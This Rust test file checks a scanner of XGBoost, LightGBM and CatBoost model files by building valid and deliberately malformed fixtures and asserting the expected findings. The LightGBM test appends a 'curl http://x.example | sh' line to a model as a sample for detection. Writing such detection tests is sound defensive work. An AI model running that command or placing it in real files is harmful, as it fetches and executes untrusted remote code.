//! XGBoost, LightGBM and CatBoost.

use custos_core::finding::Severity;

use crate::pickle::look;
use crate::tensors::{quiet, rules, told};

pub fn xgboost_json(lefts: usize) -> Vec<u8> {
    let lefts = vec!["-1"; lefts].join(",");
    format!(
        r#"{{"learner":{{"attributes":{{}},"feature_names":["a","b"],"gradient_booster":{{"model":{{"trees":[{{"left_children":[{lefts}],"right_children":[2,-1,-1],"parents":[1,0,0],"tree_param":{{"num_nodes":"3"}}}}]}},"name":"gbtree"}}}},"version":[3,0,0]}}"#
    )
    .into_bytes()
}

fn key(key: &str) -> Vec<u8> {
    let mut out = b"L".to_vec();
    out.extend((key.len() as u64).to_be_bytes());
    out.extend(key.as_bytes());
    out
}

fn numbers(count: usize) -> Vec<u8> {
    let mut out = b"[$l#L".to_vec();
    out.extend((count as u64).to_be_bytes());
    out.extend(vec![0; count * 4]);
    out
}

pub fn xgboost_ubjson(lefts: usize) -> Vec<u8> {
    let tree = [
        b"{".to_vec(),
        key("left_children"),
        numbers(lefts),
        key("right_children"),
        numbers(3),
        b"}".to_vec(),
    ];
    let parts = [
        b"{".to_vec(),
        key("learner"),
        b"{".to_vec(),
        key("feature_names"),
        b"[#L\0\0\0\0\0\0\0\x01SL\0\0\0\0\0\0\0\x01a".to_vec(),
        key("trees"),
        b"[#L\0\0\0\0\0\0\0\x01".to_vec(),
        tree.concat(),
        b"}".to_vec(),
        key("version"),
        b"[#L\0\0\0\0\0\0\0\x02i\x03i\0".to_vec(),
        b"}".to_vec(),
    ];
    parts.concat()
}

#[test]
fn trees_of_xgboost() {
    for bytes in [xgboost_json(3), xgboost_ubjson(3)] {
        assert_eq!(rules(&quiet(&bytes)), [""; 0]);
    }
    for bytes in [
        xgboost_json(2),
        xgboost_json(0),
        xgboost_ubjson(4),
        xgboost_ubjson(0),
    ] {
        told(&bytes, "xgboost/tree", Severity::Medium);
    }
    // A count that the file has no room for, and a key that is there twice.
    let head = xgboost_ubjson(3);
    let at = head.windows(5).position(|part| part == b"[$l#L").unwrap();
    let mut long = head.clone();
    long[at + 5..at + 13].copy_from_slice(&(1_u64 << 62).to_be_bytes());
    told(&long, "xgboost/broken", Severity::Medium);
    let twice = [
        b"{".to_vec(),
        key("learner"),
        b"i\0".to_vec(),
        key("learner"),
        b"i\0}".to_vec(),
    ];
    told(&twice.concat(), "xgboost/broken", Severity::Medium);
    let deep = [b"{".to_vec(), key("learner"), vec![b'['; 100_000]].concat();
    told(&deep, "xgboost/broken", Severity::Medium);
    // The memory of an old release is known, and never clean.
    let mut old = b"binf".to_vec();
    old.extend([0; 136]);
    old.extend(15_u64.to_le_bytes());
    old.extend(b"binary:logistic");
    old.extend([0; 64]);
    assert!(!look(&old).gaps.is_empty());
}

pub fn lightgbm(values: &str) -> Vec<u8> {
    format!(
        "tree\nversion=v4\nnum_class=1\nobjective=binary sigmoid:1\nfeature_names=a b\ntree_sizes=99\n\nTree=0\nnum_leaves=3\nnum_cat=0\nsplit_feature=0 1\nleft_child=1 -1\nright_child=-2 -3\nleaf_value={values}\nshrinkage=1\n\n\nend of trees\n\nfeature_importances:\na=1\n\nparameters:\n[boosting: gbdt]\n\nend of parameters\n\npandas_categorical:null\n"
    )
    .into_bytes()
}

#[test]
fn trees_of_lightgbm() {
    assert_eq!(rules(&quiet(&lightgbm("0.1 0.2 0.3"))), [""; 0]);
    told(&lightgbm("0.1 0.2"), "lightgbm/tree", Severity::Medium);
    let strange = [
        lightgbm("0.1 0.2 0.3"),
        b"curl http://x.example | sh\n".to_vec(),
    ]
    .concat();
    told(&strange, "lightgbm/line", Severity::Low);
    let bytes = [lightgbm("0.1 0.2 0.3"), vec![0; 8]].concat();
    told(&bytes, "lightgbm/broken", Severity::Medium);
}

// A core with a version and a text of information, and an empty table of trees.
pub fn catboost() -> Vec<u8> {
    let mut core = Vec::new();
    let u32 = |core: &mut Vec<u8>, number: u32| core.extend(number.to_le_bytes());
    u32(&mut core, 16);
    // The vtable of the root: its size, that of the table, and three fields.
    core.extend(
        [10_u16, 16, 4, 0, 8]
            .iter()
            .flat_map(|number| number.to_le_bytes()),
    );
    core.extend([0; 2]);
    // The root at 16: vtable, text, vector.
    core.extend(12_i32.to_le_bytes());
    u32(&mut core, 12);
    u32(&mut core, 28);
    u32(&mut core, 0);
    // The text at 32.
    u32(&mut core, 16);
    core.extend(b"FlabuffersModel1\0\0\0\0");
    core.resize(52, 0);
    // The vector of information at 52: one entry, at 60 + 8.
    u32(&mut core, 1);
    u32(&mut core, 12);
    // The vtable of the entry at 60, and the entry at 68.
    core.extend(
        [8_u16, 12, 4, 8]
            .iter()
            .flat_map(|number| number.to_le_bytes()),
    );
    core.extend(8_i32.to_le_bytes());
    u32(&mut core, 8);
    u32(&mut core, 12);
    // Its two texts at 80 and 88.
    u32(&mut core, 3);
    core.extend(b"key\0");
    u32(&mut core, 5);
    core.extend(b"value\0\0\0");
    let mut out = b"CBM1".to_vec();
    out.extend((core.len() as u32).to_le_bytes());
    out.extend(core);
    out
}

#[test]
fn cores_of_catboost() {
    assert_eq!(rules(&quiet(&catboost())), [""; 0]);
    let mut long = catboost();
    long[4..8].copy_from_slice(&u32::MAX.to_le_bytes());
    told(&long, "catboost/broken", Severity::Medium);
    let mut outside = catboost();
    outside[8 + 20..8 + 24].copy_from_slice(&0x00ff_ffff_u32.to_le_bytes());
    told(&outside, "catboost/broken", Severity::Medium);
    // A table of statistics behind the core, and one that ends too late.
    let core = catboost()[8..].to_vec();
    let table = |len: u32| {
        let mut out = catboost();
        out.extend(1_u32.to_le_bytes());
        out.extend(len.to_le_bytes());
        out.extend(&core);
        out
    };
    quiet(&table(core.len() as u32));
    told(&table(1 << 30), "catboost/broken", Severity::Medium);
}
